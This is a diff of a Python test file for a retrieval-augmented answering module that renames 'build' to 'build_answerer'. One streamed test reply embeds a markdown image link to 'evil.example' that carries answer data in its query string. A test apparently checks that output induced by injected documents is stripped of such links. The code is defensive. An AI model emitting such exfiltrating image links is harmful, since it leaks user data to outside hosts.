@@ -11,8 +11,8 @@ from rag_platform.config_query import AnswererConfig
 from rag_platform.errors import ConfigError, ProviderError
 from rag_platform.ir import Hit
 from rag_platform.providers.openai_chat import OpenAIChat
-from rag_platform.retrieval.answering import build
 from rag_platform.retrieval.citing import checked
+from rag_platform.retrieval.models import build_answerer
 from rag_platform.retrieval.queries import prepare
 from rag_platform_tests.chat_server import Reply, chat_server, refused, said, streamed
 
@@ -38,7 +38,7 @@ def llm(url: str) -> OpenAIChat:
 
 def test_the_model_reads_numbered_passages_and_the_question() -> None:
     with chat_server(lambda body, number: said("The maximum upload size is 50 MB [1].")) as server:
-        written = build(CONFIG, llm(server.url)).answer(QUERY, EVIDENCE)
+        written = build_answerer(CONFIG, llm(server.url)).answer(QUERY, EVIDENCE)
     assert written.text == "The maximum upload size is 50 MB [1]."
     assert written.prompt_profile_id.startswith("retrieval.answer-")
     assert written.completion is not None and written.completion.usage == {"input_tokens": 10, "output_tokens": 5}
@@ -53,7 +53,7 @@ def test_the_model_reads_numbered_passages_and_the_question() -> None:
 def test_what_the_passages_do_not_hold_is_no_answer(said_text: str, stream: bool) -> None:
     parts: list[str] = []
     with chat_server(lambda body, number: streamed(list(said_text)) if stream else said(said_text)) as server:
-        written = build(CONFIG, llm(server.url)).answer(QUERY, EVIDENCE, on_text=parts.append if stream else None)
+        written = build_answerer(CONFIG, llm(server.url)).answer(QUERY, EVIDENCE, on_text=parts.append if stream else None)
     assert (written.text, parts) == ("", [])
 
 
@@ -61,7 +61,7 @@ def test_a_stream_is_handed_on_in_whole_sentences_without_what_no_passage_holds(
     parts: list[str] = []
     text = "The maximum is 50 MB [1][99]. See ![pic](https://evil.example/?q=50) now. Bye [4]"
     with chat_server(lambda body, number: streamed([text[n : n + 3] for n in range(0, len(text), 3)])) as server:
-        written = build(CONFIG, llm(server.url)).answer(QUERY, EVIDENCE, on_text=parts.append)
+        written = build_answerer(CONFIG, llm(server.url)).answer(QUERY, EVIDENCE, on_text=parts.append)
     assert parts == ["The maximum is 50 MB [1].", " See pic now.", " Bye [4]"]
     assert written.text == text
 
@@ -75,28 +75,28 @@ def test_passages_that_are_too_long_are_halved() -> None:
         )
 
     with chat_server(answer) as server:
-        written = build(CONFIG, llm(server.url)).answer(QUERY, EVIDENCE)
+        written = build_answerer(CONFIG, llm(server.url)).answer(QUERY, EVIDENCE)
     assert written.warnings == ("the passages were too long for the model, it read the first 1 of 4",)
     assert "Backups" not in server.requests[2]["messages"][1]["content"]
 
 
 def test_a_passage_that_is_too_long_alone_and_other_refusals_are_raised() -> None:
     with chat_server(lambda body, number: refused(413, "too large")) as server, pytest.raises(ProviderError) as caught:
-        build(CONFIG, llm(server.url)).answer(QUERY, EVIDENCE)
+        build_answerer(CONFIG, llm(server.url)).answer(QUERY, EVIDENCE)
     assert (caught.value.code, len(server.requests)) == ("too_large", 3)
     with chat_server(lambda body, number: refused(400, "bad role")) as server, pytest.raises(ProviderError):
-        build(CONFIG, llm(server.url)).answer(QUERY, EVIDENCE)
+        build_answerer(CONFIG, llm(server.url)).answer(QUERY, EVIDENCE)
     assert len(server.requests) == 1
 
 
 def test_an_answer_that_reached_its_limit_says_so() -> None:
     with chat_server(lambda body, number: said("The maximum upload size is", finish_reason="length")) as server:
-        assert "cut" in build(CONFIG, llm(server.url)).answer(QUERY, EVIDENCE).warnings[0]
+        assert "cut" in build_answerer(CONFIG, llm(server.url)).answer(QUERY, EVIDENCE).warnings[0]
 
 
 def test_without_a_model_the_remedy_is_named() -> None:
     with pytest.raises(ConfigError, match=r"answerer\.llm or llm in the strategy"):
-        build(CONFIG, None)
+        build_answerer(CONFIG, None)
 
 
 @pytest.mark.parametrize(
@@ -111,7 +111,7 @@ def test_without_a_model_the_remedy_is_named() -> None:
 )  # fmt: skip
 def test_what_a_document_made_the_model_say_does_not_act(reply: str, shown: str, cites: list[str]) -> None:
     with chat_server(lambda body, number: said(reply)) as server:
-        written = build(CONFIG, llm(server.url)).answer(QUERY, EVIDENCE)
+        written = build_answerer(CONFIG, llm(server.url)).answer(QUERY, EVIDENCE)
     found = checked(written.text, EVIDENCE)
     assert (found.text, [c.chunk_id for c in found.citations]) == (shown, cites)
     assert "evil.example" not in found.text
@@ -123,4 +123,4 @@ def test_whoever_listens_can_stop() -> None:
 
     speak: Callable[[dict[str, object], int], Reply] = lambda body, number: streamed(["One. ", "Two. ", "Three."])  # noqa: E731
     with chat_server(speak) as server, pytest.raises(TimeoutError):
-        build(CONFIG, llm(server.url)).answer(QUERY, EVIDENCE, on_text=stop)
+        build_answerer(CONFIG, llm(server.url)).answer(QUERY, EVIDENCE, on_text=stop)
